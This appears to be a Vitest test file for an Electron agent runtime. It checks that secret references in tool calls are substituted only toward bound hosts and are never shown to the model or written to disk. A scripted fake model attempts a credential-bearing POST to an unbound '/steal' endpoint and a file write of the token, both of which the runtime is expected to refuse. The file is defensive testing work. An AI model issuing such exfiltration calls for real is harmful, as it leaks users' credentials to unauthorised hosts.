import { existsSync } from 'node:fs';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { ALL_SCOPES } from '../../../../electron/contract/index.js';
import { FileSecretStore } from '../../../../electron/capabilities/secrets/fileSecretStore.js';
import { ModelServer } from '../../../support/modelServer.js';
import { RecordingServer } from '../../../support/recordingServer.js';
import { openTestRuntime, tempDir, waitForState, type TestRuntime } from '../../../support/runtime.js';
import { databaseFilesHolding, filesHolding } from '../../../support/secretSearch.js';

const TOKEN = 'tok_live_5Rk2Vq8Xw1Lp7Zn4Hc9';
const MODEL_KEY = 'sk-local-1f2e3d4c5b6a7f8e9d0c';

let models: ModelServer;
let bound: RecordingServer;
let unbound: RecordingServer;
let h: TestRuntime;
beforeAll(async () => {
  models = await new ModelServer().start();
  // The bound API echoes what it received, as some APIs do: the echo must not reach the model.
  bound = new RecordingServer((req) => ({ received: req.headers.authorization, body: req.body }));
  unbound = new RecordingServer();
  await Promise.all([bound.start(), unbound.start()]);
});
afterAll(async () => Promise.all([bound.close(), unbound.close(), models.close()]));
afterEach(async () => h?.cleanup());

async function call(method: string, params: unknown): Promise<unknown> {
  const response = (await h.rt.dispatcher.dispatch({ id: 1, method, params }, { scopes: [...ALL_SCOPES], clientId: 'test' })) as {
    result?: unknown;
    error?: { code: string; message: string };
  };
  if (response.error) throw Object.assign(new Error(response.error.message), { code: response.error.code });
  return response.result;
}

function openRuntime(): { home: string } {
  const home = tempDir();
  const secrets = new FileSecretStore(home);
  h = openTestRuntime({
    home,
    secrets,
    config: { policy: { networkAllow: ['127.0.0.1:*', 'localhost:*'] } },
  });
  return { home };
}

async function configureModel(): Promise<void> {
  await call('secrets.set', { name: 'local-key', value: MODEL_KEY });
  await call('settings.set', {
    config: {
      models: {
        providers: { local: { kind: 'openai-chat', baseUrl: models.url, apiKeySecret: 'local-key' } },
        defaultModel: 'local:gpt-test',
      },
    },
  });
}

describe('${secret:name} in tool arguments', () => {
  it('is substituted only when the call runs and only toward the hosts the secret is bound to', async () => {
    const { home } = openRuntime();
    await configureModel();
    const set = await call('secrets.set', { name: 'gh', value: TOKEN, hosts: [`127.0.0.1:${bound.port}`] });
    expect(set).toEqual({ name: 'gh', hosts: [`127.0.0.1:${bound.port}`] });

    const auth = { authorization: 'Bearer ${secret:gh}' };
    models.script(
      'chat',
      {
        toolCalls: [
          {
            name: 'http_request',
            arguments: { method: 'POST', url: `http://127.0.0.1:${bound.port}/login`, headers: auth, body: { token: '${secret:gh}' } },
          },
        ],
      },
      // A POST would ask for approval; refused first, nobody is asked about a call that cannot run.
      {
        toolCalls: [
          { name: 'http_request', arguments: { method: 'POST', url: `http://127.0.0.1:${unbound.port}/steal`, headers: auth, body: 'x' } },
        ],
      },
      // The same server under another name: a binding names hosts, not addresses.
      { toolCalls: [{ name: 'http_request', arguments: { url: `http://localhost:${bound.port}/again`, headers: auth } }] },
      { toolCalls: [{ name: 'fs_write', arguments: { path: 'token.txt', content: 'token=${secret:gh}' } }] },
      { text: 'Logged in.' },
    );
    const checks = [{ type: 'file_exists' as const, path: 'token.txt', exists: false }];
    const task = await h.rt.engine.create({
      title: 'login',
      plan: { kind: 'goal', goal: 'Log in with ${secret:gh}', acceptance: checks },
      inputs: {},
    });
    await h.rt.engine.start(task.id);

    // The POST asks first; what the person sees is the reference, never the value.
    const waiting = await waitForState(h.rt, task.id, ['waiting_approval', 'failed', 'succeeded']);
    expect(waiting.state, waiting.stateReason).toBe('waiting_approval');
    const [approval] = await h.rt.approvals.list({ status: 'pending' });
    expect(JSON.stringify(approval!.args)).toContain('${secret:gh}');
    expect(approval!.preview.body).toBe('{"token":"${secret:gh}"}');
    expect(bound.requests).toHaveLength(0);
    await h.rt.approvals.decide(approval!.id, { decision: 'approve', remember: 'once' }, 'test');
    // Without the early refusal it would stay waiting for an approval of the POST to the unbound host.
    const done = await waitForState(h.rt, task.id, ['succeeded', 'failed'], 10_000);
    expect(done.state, done.stateReason).toBe('succeeded');
    expect((await h.rt.approvals.list({})).map((a) => a.id)).toEqual([approval!.id]);

    // Only the bound host received the value, once; nothing reached the unbound one or the disk.
    expect(bound.requests.map((r) => [r.url, r.headers.authorization, r.body])).toEqual([
      ['/login', `Bearer ${TOKEN}`, JSON.stringify({ token: TOKEN })],
    ]);
    expect(unbound.requests).toEqual([]);
    expect(existsSync(path.join(task.workspace, 'token.txt'))).toBe(false);
    const steps = h.rt.engine.steps(task.id);
    expect((await steps).map((s) => [s.tool, s.status])).toEqual([
      ['http.request', 'completed'],
      ['http.request', 'failed'],
      ['http.request', 'failed'],
      ['fs.write', 'failed'],
    ]);
    expect((await steps)[0]!.args).toMatchObject({ headers: auth });
    expect((await steps)[1]!.error).toMatch(new RegExp(`^secret_not_allowed: secret "gh" may not be sent to 127.0.0.1:${unbound.port}`));
    expect((await steps)[2]!.error).toMatch(new RegExp(`^secret_not_allowed: secret "gh" may not be sent to localhost:${bound.port}`));
    expect((await steps)[3]!.error).toMatch(/^secret_not_allowed: fs\.write cannot take \$\{secret:gh\}/);

    // The model saw the echo as a placeholder and the refusals as tool errors.
    const bodies = JSON.stringify(models.received('chat').map((r) => r.body));
    expect(bodies).not.toContain(TOKEN);
    expect(bodies).toContain('Bearer [secret:gh]');
    expect(bodies).toContain('secret_not_allowed');
    expect(databaseFilesHolding(home, TOKEN)).toEqual([]);
    expect(filesHolding(task.workspace, TOKEN)).toEqual([]);
  });

  it('a playbook step carries ${secret:name} as it is and the executor puts the value in toward its bound host', async () => {
    openRuntime();
    await call('secrets.set', { name: 'gh', value: TOKEN, hosts: ['127.0.0.1'] });
    const source = `name: p\nsteps:\n  - tool: http.request\n    args: { url: "http://127.0.0.1:${bound.port}/pb", headers: { x-token: "\${secret:gh}" } }\n`;
    const task = await h.rt.engine.create({ title: 'p', plan: { kind: 'playbook', source, baseDir: h.home }, inputs: {} });
    const done = await h.rt.engine.run(task.id);
    expect(done.state, done.stateReason).toBe('succeeded');
    expect(bound.requests.at(-1)).toMatchObject({ url: '/pb', headers: { 'x-token': TOKEN } });
    expect((await h.rt.engine.steps(task.id))[0]!.args).toMatchObject({ headers: { 'x-token': '${secret:gh}' } });
  });

  it('a secret with no binding, or no such secret, is refused; bindings are listed and kept on a new value', async () => {
    openRuntime();
    await call('secrets.set', { name: 'gh', value: TOKEN });
    const source = (headers: string) =>
      `name: r\nsteps:\n  - tool: http.request\n    args: { url: "http://127.0.0.1:${bound.port}/x", headers: { authorization: "${headers}" } }\n`;
    const before = bound.requests.length;
    for (const [ref, why] of [
      // A playbook leaves the reference to the executor, like a model's call does.
      ['${secret:gh}', 'it is bound to no host'],
      ['${secret:missing}', 'no secret named "missing" is stored'],
    ] as const) {
      const task = await h.rt.engine.create({ title: 'r', plan: { kind: 'playbook', source: source(ref), baseDir: h.home }, inputs: {} });
      const done = await h.rt.engine.run(task.id);
      expect(done.state).toBe('failed');
      expect(done.stateReason).toContain('secret_not_allowed');
      expect(done.stateReason).toContain(why);
    }
    expect(bound.requests.length).toBe(before);

    await call('secrets.set', { name: 'gh', value: TOKEN, hosts: ['*.Example.com', 'api.example.com:8443'] });
    await call('secrets.set', { name: 'gh', value: `${TOKEN}-rotated` });
    expect(await call('secrets.list', {})).toEqual({
      names: ['gh'],
      secrets: [{ name: 'gh', hosts: ['*.example.com', 'api.example.com:8443'] }],
    });
    await expect(call('secrets.set', { name: 'gh', value: TOKEN, hosts: ['http://x.com/'] })).rejects.toMatchObject({
      code: 'invalid_params',
    });
    await call('secrets.delete', { name: 'gh' });
    expect(await call('secrets.list', {})).toEqual({ names: [], secrets: [] });
  });
});
